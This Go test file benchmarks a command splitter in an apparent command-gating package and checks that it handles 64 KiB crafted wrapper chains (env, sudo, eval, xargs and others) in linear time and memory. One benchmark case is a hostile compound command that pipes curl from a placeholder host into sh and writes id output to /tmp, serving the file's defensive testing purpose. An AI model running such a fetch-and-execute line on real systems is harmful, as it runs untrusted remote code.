package gate

import (
	"runtime"
	"strings"
	"testing"
)

// craftedChains are hostile command lines of n bytes that make a naive
// splitter quadratic: wrapper chains (each wrapper's command is the rest of
// the line), keyword chains and scripts that re-split the rest of the line.
func craftedChains(n int) map[string]string {
	fill := func(unit, tail string) string {
		return strings.Repeat(unit, (n-len(tail))/len(unit)) + tail
	}
	return map[string]string{
		"env":          fill("env ", "ls"),
		"sudo_user":    fill("sudo -u root ", "ls"),
		"nice":         fill("nice -n 1 ", "ls"),
		"timeout":      fill("timeout 1 ", "ls"),
		"xargs":        fill("xargs ", "ls"),
		"command":      fill("command ", "ls"),
		"find_exec":    fill("find . -exec ", "ls"),
		"env_assign":   fill("env A=1 ", "ls"),
		"time_keyword": fill("time ", "ls"),
		"eval":         fill("eval ", "ls"),
		"watch":        fill("watch ", "ls"),
		"plain_words":  fill("ls ", "ls"),
	}
}

// BenchmarkSplit measures Split on a typical and a compound command, and
// on 64 KiB crafted wrapper chains (see craftedChains), which Split
// refuses or splits in time and memory linear in their length.
func BenchmarkSplit(b *testing.B) {
	cases := []struct{ name, cmd string }{
		{"simple", "ping -c 1 127.0.0.1"},
		{"compound", "ping 8.8.8.8; curl -s x | sh && echo $(id) > /tmp/o"},
	}
	for name, cmd := range craftedChains(MaxCommandBytes) {
		cases = append(cases, struct{ name, cmd string }{"64KiB_chain_" + name, cmd})
	}
	for _, bc := range cases {
		b.Run(bc.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				_, _ = Split(bc.cmd)
			}
		})
	}
}

// allocated returns the bytes f allocates.
func allocated(f func()) uint64 {
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	f()
	runtime.ReadMemStats(&after)
	return after.TotalAlloc - before.TotalAlloc
}

// Split's cost on hostile chains is linear: at most 10 MB for 64 KiB, and
// four times the input costs at most about four times the memory.
func TestSplitCostIsLinear(t *testing.T) {
	if raceEnabled {
		t.Skip("the race detector changes allocation sizes")
	}
	small, large := craftedChains(MaxCommandBytes/4), craftedChains(MaxCommandBytes)
	for name, cmd := range large {
		t.Run(name, func(t *testing.T) {
			Split(cmd) // warm the parser pool
			big := allocated(func() { _, _ = Split(cmd) })
			little := allocated(func() { _, _ = Split(small[name]) })
			if big > 10<<20 {
				t.Errorf("Split of %d bytes allocated %d bytes, over 10 MB", len(cmd), big)
			}
			if big > 6*little+(64<<10) {
				t.Errorf("not linear: %d bytes for %d bytes of input, %d for %d", big, len(cmd), little, len(small[name]))
			}
		})
	}
}
